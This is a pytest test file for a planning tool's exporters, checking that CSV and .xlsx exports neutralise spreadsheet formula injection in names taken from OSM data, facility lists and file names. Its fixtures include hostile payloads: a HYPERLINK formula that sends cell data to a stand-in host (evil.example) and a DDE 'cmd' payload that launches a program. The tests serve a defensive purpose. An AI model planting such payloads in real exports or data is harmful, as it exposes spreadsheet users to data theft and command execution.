"""Exports carry data, never code: hostile names from OSM, a facility list and file names reach CSV and .xlsx as text.

A name starting with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return
is a formula to a spreadsheet (CSV injection). The names come in through an
OSM file (admin areas, compounds) and a facility list, both saved under
hostile file names; every export (``circle indicators`` to ``.xlsx`` and
``.csv``, the app's CSV downloads) is read back cell by cell, and
LibreOffice, told to evaluate formulas, is shown the files too.
"""

from __future__ import annotations

import csv
import io
import itertools
import shutil
import subprocess
from pathlib import Path

import geopandas as gpd
import numpy as np
import openpyxl
import pandas as pd
import pytest

from circle.cli import main
from circle.exports import FORMULA_STARTS, csv_bytes, neutralised, xlsx_bytes
from circle.pipeline import AnalysisOptions, analyze
from circle.study import Study
from tests.osm_builder import OsmBuilder, to_lonlat

LINK = '=HYPERLINK("http://evil.example/?x="&B2,"…")'
HOSTILE = [LINK, "+SUM(1,2)", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)", "\t=1+1", "\r=1+1"]
#: file names cannot hold "/" or a line break; the rest of a formula they can
HOSTILE_FILE = '=HYPERLINK("http:evil.example?x="&B2,"x")'


def _ring_of_ways(town: OsmBuilder, corners: list[tuple[float, float]]) -> list[tuple[str, int, str]]:
    ids = [town.node(e, n) for e, n in corners]
    ids.append(ids[0])
    return [("way", town.way([a, b]), "outer") for a, b in itertools.pairwise(ids)]


def hostile_town(path: Path) -> Path:
    """A sub-district named ``LINK`` holding one community per hostile name, each with a compound so named."""
    town = OsmBuilder()
    width = 200.0
    count = len(HOSTILE) - 1
    street = [town.node(100.0 * i - 100, -20.0) for i in range(int(count * width / 100) + 3)]
    town.way(street, highway="residential", name="@street")
    town.node(150, -19.5, amenity="clinic", name="=1+1")
    town.relation(
        _ring_of_ways(town, [(-150, -250), (count * width + 50, -250), (count * width + 50, 550), (-150, 550)]),
        type="boundary",
        boundary="administrative",
        admin_level="8",
        name=LINK,
    )
    for i, name in enumerate(HOSTILE[1:]):
        west = i * width - 100
        town.relation(
            _ring_of_ways(town, [(west, -200), (west + width, -200), (west + width, 500), (west, 500)]),
            type="boundary",
            boundary="administrative",
            admin_level="10",
            name=name,
        )
        town.polygon(
            [(west + 40, 10), (west + 160, 10), (west + 160, 120), (west + 40, 120)], landuse="residential", name=name
        )
    return town.write(path)


def hostile_list(path: Path) -> Path:
    """A facility list whose names are formulas (a clinic and a kindergarten on the street)."""
    rows = [[name, "clinic", *to_lonlat(300 + 150 * i, -19.5)] for i, name in enumerate(HOSTILE)]
    frame = pd.DataFrame(rows, columns=["名称", "类别", "经度", "纬度"])
    path.write_bytes(frame.to_csv(index=False, quoting=csv.QUOTE_ALL).encode("utf-8-sig"))
    return path


@pytest.fixture(scope="module")
def study(tmp_path_factory) -> Study:
    folder = tmp_path_factory.mktemp("hostile")
    source = hostile_town(folder / f"{HOSTILE_FILE}.osm")
    table = hostile_list(folder / f"{HOSTILE_FILE}.csv")
    result = analyze(AnalysisOptions(source=source, out=folder / "study", facilities_file=table))
    return Study.open(result.path)


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def unsafe_text(values) -> list[str]:
    """Return the text cells a spreadsheet would run as formulas (negative numbers are numbers)."""
    return [v for v in values if isinstance(v, str) and v.startswith(FORMULA_STARTS) and not _is_number(v)]


def csv_cells(data: bytes) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")) for cell in row]


def xlsx_cells(path_or_bytes) -> list[openpyxl.cell.Cell]:
    book = openpyxl.load_workbook(io.BytesIO(path_or_bytes) if isinstance(path_or_bytes, bytes) else path_or_bytes)
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def test_neutralised_prefixes_formula_text_and_leaves_numbers_and_the_input_alone():
    frame = pd.DataFrame(
        {
            "name": [*HOSTILE, "站", None],
            "n": [-1.5, 2, 3, 4, 5, 6, -7, np.nan],
            "flag": [True, False] * 4,
            "=head": ["-", "+", "@", "a=b", "'=x", " =x", "", "x"],
        }
    )
    frame["text"] = pd.Series(["=1", "-2", None, "x", "+", "@", "\t", "\r"], dtype="string")
    before = frame.copy()
    safe = neutralised(frame)
    pd.testing.assert_frame_equal(frame, before)  # the caller's table (a study's own) is not touched
    assert safe["name"].tolist()[: len(HOSTILE)] == ["'" + name for name in HOSTILE]
    assert safe["name"].iloc[-2] == "站" and pd.isna(safe["name"].iloc[-1])
    assert safe["n"].dtype == float and safe["n"].iloc[0] == -1.5 and safe["n"].iloc[6] == -7  # numbers stay numbers
    assert safe["flag"].tolist() == frame["flag"].tolist()
    assert list(safe.columns) == ["name", "n", "flag", "'=head", "text"]
    assert safe["'=head"].tolist() == ["'-", "'+", "'@", "a=b", "'=x", " =x", "", "x"]
    assert safe["text"].tolist()[:2] == ["'=1", "'-2"] and pd.isna(safe["text"].iloc[2])
    assert not unsafe_text(csv_cells(csv_bytes(frame)))
    assert neutralised(frame.astype({"name": "category"}))["name"].iloc[0] == "'" + LINK
    # a carriage return inside a field is quoted, or a spreadsheet would start a row (and a formula) there
    assert csv_cells(csv_bytes(pd.DataFrame({"a": ["x\r=1+1", "y\n@SUM(1)"]}))) == ["a", "x\r=1+1", "y\n@SUM(1)"]


def test_xlsx_cells_are_text_never_formulas_and_numbers_stay_numbers():
    cells = xlsx_cells(xlsx_bytes({"a": pd.DataFrame({LINK: HOSTILE, "n": range(-3, 3)})}))
    assert all(cell.data_type != "f" for cell in cells)
    texts = {cell.value for cell in cells if cell.data_type == "s"}
    assert texts >= {"'" + name.replace("\r", "\n") for name in [LINK, *HOSTILE]}  # XML reads a CR as a LF
    assert sorted(cell.value for cell in cells if cell.data_type == "n") == list(range(-3, 3))


def test_the_study_keeps_the_names_as_the_data_gave_them(study):
    """Neutralising is for what leaves: the study's own tables hold the names unchanged."""
    blocks = gpd.read_parquet(study.path / "blocks.parquet")
    facilities = gpd.read_parquet(study.path / "facilities.parquet")
    assert set(HOSTILE[1:]) <= set(blocks["community"])
    assert set(blocks["subdistrict"]) == {LINK}
    assert {name.strip() for name in HOSTILE} <= set(facilities["name"])  # the list's reader trims names
    assert study.summary.source.file == f"{HOSTILE_FILE}.osm"


@pytest.mark.parametrize("lang", ["en", "zh"])
def test_indicators_xlsx_holds_hostile_names_as_text(study, tmp_path, lang):
    out = tmp_path / f"{HOSTILE_FILE}.xlsx"
    assert main(["indicators", "--study", str(study.path), "--out", str(out), "--lang", lang]) == 0
    cells = xlsx_cells(out)
    assert all(cell.data_type != "f" for cell in cells), [c.value for c in cells if c.data_type == "f"]
    assert not unsafe_text(cell.value for cell in cells)
    texts = {cell.value for cell in cells if isinstance(cell.value, str)}
    # the sub-district and each community, on the second sheet (XML reads a CR as a LF)
    assert {"'" + name.replace("\r", "\n") for name in HOSTILE} <= texts
    assert f"'{HOSTILE_FILE}.osm" in texts  # the source file's name, on the sources sheet


def test_indicators_csv_holds_hostile_names_as_text(study, tmp_path):
    out = tmp_path / "ind.csv"
    assert main(["indicators", "--study", str(study.path), "--out", str(out)]) == 0
    files = [out, out.with_suffix(".communities.csv"), out.with_suffix(".sources.csv")]
    cells = [cell for path in files for cell in csv_cells(path.read_bytes())]
    assert not unsafe_text(cells)
    assert {"'" + name for name in HOSTILE} <= set(cells)
    assert f"'{HOSTILE_FILE}.osm" in cells
    numbers = [float(c) for c in csv_cells(out.read_bytes()) if _is_number(c)]
    assert numbers  # the indicators' values are still plain numbers


def test_the_apps_csv_downloads_are_neutralised(study):
    """The planner page's blocks and areas downloads, and the report page's scores, go through ``csv_bytes``."""
    from circle.ui.planner_gaps import _download_files
    from circle.ui.text import csv_bytes as app_csv_bytes

    assert app_csv_bytes is csv_bytes
    for what in ("blocks", "areas"):
        table, _ = _download_files(str(study.path), study.summary.created, "", what)
        assert table and not unsafe_text(csv_cells(table))
    # the scores table itself holds no names; give it the study's to show the download would neutralise them
    blocks = study.blocks[["block_id", "name", "subdistrict", "community"]]
    cells = csv_cells(csv_bytes(pd.DataFrame(blocks)))
    assert not unsafe_text(cells) and "'" + LINK in cells and "'" + HOSTILE[1] in cells


def test_compare_writes_no_spreadsheet(study, tmp_path):
    """``circle compare`` writes parquet and JSON (read by the app and the PDF report), never CSV or .xlsx."""
    out = tmp_path / "cmp"
    assert main(["compare", str(study.path), str(study.path), "--out", str(out)]) == 0
    suffixes = {p.suffix for p in out.rglob("*") if p.is_file()}
    assert suffixes and suffixes <= {".parquet", ".json"}


@pytest.mark.skipif(shutil.which("soffice") is None, reason="LibreOffice (soffice) is not installed")
def test_libreoffice_evaluating_formulas_finds_none_in_the_exports(study, tmp_path):
    """LibreOffice opens the CSV exports with formula evaluation on, and the .xlsx as it would for a planner.

    An un-neutralised CSV of the same names is converted too: it does hold
    formulas, so the check can see them.
    """
    out = tmp_path / "ind.csv"
    assert main(["indicators", "--study", str(study.path), "--out", str(out)]) == 0
    sheet = tmp_path / "ind.xlsx"
    assert main(["indicators", "--study", str(study.path), "--out", str(sheet)]) == 0
    raw = tmp_path / "raw.csv"
    raw.write_bytes(pd.DataFrame({"name": HOSTILE}).to_csv(index=False).encode("utf-8-sig"))
    converted = tmp_path / "lo"

    def convert(target: str, filters: list[str], *files: Path) -> None:
        subprocess.run(
            [
                "soffice",
                "--headless",
                f"-env:UserInstallation=file://{tmp_path}/profile",
                *filters,
                *("--convert-to", target, "--outdir", str(converted)),
                *map(str, files),
            ],
            check=True,
            capture_output=True,
            timeout=180,
        )

    evaluate = "--infilter=CSV:44,34,76,1,,0,false,true,false,false,false,-1,true"  # token 13: evaluate formulas
    convert("xlsx", [evaluate], out, out.with_suffix(".communities.csv"), out.with_suffix(".sources.csv"), raw)
    convert("csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false,false,false,-1", [], sheet)  # all sheets
    assert any(c.data_type == "f" for c in xlsx_cells(converted / "raw.xlsx"))  # the control: formulas seen
    for name in ("ind.xlsx", "ind.communities.xlsx", "ind.sources.xlsx"):
        cells = xlsx_cells(converted / name)
        assert all(c.data_type != "f" for c in cells), name
    cells = xlsx_cells(converted / "ind.communities.xlsx")
    assert "'" + LINK in {c.value for c in cells}  # the formula's text, shown as text
    shown = (converted / "ind-社区缺口.csv").read_text(
        encoding="utf-8"
    )  # the .xlsx's communities, as LibreOffice shows them
    assert '\'=HYPERLINK(""http://evil.example/?x=""&B2' in shown and "'+SUM(1,2)" in shown
